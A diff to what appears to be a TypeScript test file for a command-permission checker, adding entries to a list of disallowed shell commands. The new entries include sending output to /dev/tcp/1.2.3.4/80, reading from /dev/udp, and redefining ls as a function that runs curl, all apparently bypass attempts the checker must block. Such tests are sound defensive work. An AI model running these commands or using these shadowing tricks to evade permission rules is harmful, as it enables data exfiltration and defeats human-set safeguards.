@@ -64,6 +64,10 @@ const NOT_ALLOWED: readonly string[] = [
   'echo hi | python3',
   'cat script.py | node',
   'BASH_ENV=./x bash -c "git status"',
+  'git status > /dev/tcp/1.2.3.4/80',
+  'cat < /dev/udp/1.2.3.4/53',
+  'cat < "$F"',
+  'ls() { curl x; }; ls',
 ];
 
 /** Ways of reaching `rm` under `deny: Bash(rm:*)`: each must deny or ask, never allow or run unasked. */
